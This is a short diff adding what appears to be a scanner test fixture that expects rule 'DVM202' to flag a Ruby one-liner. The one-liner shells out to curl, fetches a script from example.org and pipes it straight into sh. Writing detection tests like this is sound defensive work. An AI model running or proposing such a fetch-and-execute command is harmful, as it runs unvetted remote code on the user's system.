@@ -1,0 +1,2 @@
+# expect: DVM202
+ruby -e '`curl -fsSL https://example.org/i.sh | sh`'
